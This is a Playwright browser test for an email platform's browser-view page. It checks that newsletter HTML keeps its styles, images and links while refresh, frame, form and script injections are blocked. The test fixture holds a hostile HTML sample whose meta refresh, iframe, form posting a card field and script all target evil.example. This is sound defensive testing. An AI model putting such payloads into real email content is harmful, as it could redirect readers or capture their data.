"""The browser view (GetEmailBrowserContent.ashx) in a real Chromium: what an issue's HTML may do.

The issue is the sender's HTML: it may style itself and show remote images, and a link the
reader clicks goes where it points, but it must not move the page elsewhere on its own, embed
another site, or submit a form (docs/email.md, "Tracking rules").
"""

from __future__ import annotations

from collections.abc import Iterator
from urllib.parse import urlencode

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Route

from contacthub.email.compose import BROWSER_VIEW_PATH, CLICK_PATH
from contacthub.email.hashing import LinkSigner, Purpose
from contacthub.storage.database import Database
from tests.browser.conftest import BLANK_GIF, TIMEOUT_MS, VIEWPORT, sqlite_only
from tests.email.tracking_support import ANNA, BASE_URL, sent_issue
from tests.servers import TEST_SECRET, HubServer

pytestmark = pytest.mark.slow

EVIL = "https://evil.example"
CLICK_ON_SITE = f"{BASE_URL}{CLICK_PATH}?"
HOSTILE_ISSUE = f"""<html><head>
<meta http-equiv="refresh" content="0; url={EVIL}/refresh">
<style>.boxed {{ border: 3px solid rgb(0, 128, 0); }}</style>
<link rel="stylesheet" href="https://fonts.example.com/email.css">
</head><body>
<h1 class="boxed" style="color: rgb(200, 0, 0)">Hello {{{{ first_name }}}}</h1>
<img id="logo" src="https://images.example.com/logo.gif" alt="Logo" width="10" height="10">
<iframe src="{EVIL}/iframe"></iframe>
<object data="{EVIL}/object"></object>
<embed src="{EVIL}/embed">
<form action="{EVIL}/form" method="post"><input name="card" value="1234">
<button id="send">Send</button></form>
<script>fetch("{EVIL}/script")</script>
<p><a id="same-tab" href="https://shop.example.com/spring">Spring sale</a></p>
<p><a id="new-tab" href="https://www.example.com/blog" target="_blank">Blog</a></p>
</body></html>"""


class OffSite:
    """Every request the browser makes to another site: answered with a blank image, recorded."""

    def __init__(self, hub: HubServer) -> None:
        self.hub = hub
        self.urls: list[str] = []

    def elsewhere(self, url: str) -> bool:
        return not url.startswith(self.hub.base_url + "/")

    def answer(self, route: Route) -> None:
        self.urls.append(route.request.url)
        route.fulfill(status=200, content_type="image/gif", body=BLANK_GIF)

    def to(self, host: str) -> list[str]:
        return [url for url in self.urls if url.startswith(host)]


@pytest.fixture
def off_site(hub: HubServer) -> OffSite:
    return OffSite(hub)


@pytest.fixture
def context(browser: Browser, off_site: OffSite) -> Iterator[BrowserContext]:
    # Not the `tab` fixture: this page breaks the CSP on purpose, and the console says so.
    context = browser.new_context(viewport=VIEWPORT)
    context.set_default_timeout(TIMEOUT_MS)
    context.route(off_site.elsewhere, off_site.answer)
    yield context
    context.close()


def open_browser_view(page: Page, hub: HubServer, database: Database) -> str:
    sent = sent_issue(database, html=HOSTILE_ISSUE)
    hash_ = LinkSigner([TEST_SECRET]).sign(Purpose.BROWSER_VIEW, sent.guid, ANNA)
    query = urlencode({"issueguid": sent.guid, "email": ANNA, "hash": hash_})
    url = f"{hub.base_url}{BROWSER_VIEW_PATH}?{query}"
    response = page.goto(url)
    assert response is not None
    assert response.status == 200
    page.wait_for_load_state("networkidle")
    page.wait_for_timeout(1_500)  # time for a <meta refresh> of 0 s to have fired, were it allowed
    return url


@sqlite_only
def test_the_browser_view_shows_the_email_but_goes_nowhere_on_its_own(
    context: BrowserContext, off_site: OffSite, hub: HubServer, database: Database
) -> None:
    page = context.new_page()
    url = open_browser_view(page, hub, database)

    # What must still work: inline styles, <style>, remote images and stylesheets.
    assert page.url == url, "the page moved elsewhere on its own"
    heading = page.locator("h1")
    assert heading.inner_text() == "Hello Anna"
    assert heading.evaluate("e => getComputedStyle(e).color") == "rgb(200, 0, 0)"
    assert heading.evaluate("e => getComputedStyle(e).borderTopColor") == "rgb(0, 128, 0)"
    assert page.locator("#logo").evaluate("e => e.complete && e.naturalWidth") == 1
    assert off_site.to("https://images.example.com/") == ["https://images.example.com/logo.gif"]
    assert off_site.to("https://fonts.example.com/") == ["https://fonts.example.com/email.css"]
    # What must not: refresh away, frames, objects, scripts.
    assert off_site.to(EVIL) == []

    # A form goes nowhere.
    page.locator("#send").click()
    page.wait_for_timeout(500)
    assert page.url == url
    assert off_site.to(EVIL) == []

    # A link with target="_blank" opens a tab, at the tracked link (the newsletter site's
    # gateway to the hub's click redirect).
    with context.expect_page() as opened:
        page.locator("#new-tab").click()
    blog = opened.value
    blog.wait_for_load_state()
    assert blog.url.startswith(CLICK_ON_SITE), blog.url
    # A plain link takes the page itself where it points.
    with page.expect_navigation():
        page.locator("#same-tab").click()
    assert page.url.startswith(CLICK_ON_SITE), page.url
    assert page.url != blog.url
    assert off_site.to(EVIL) == []
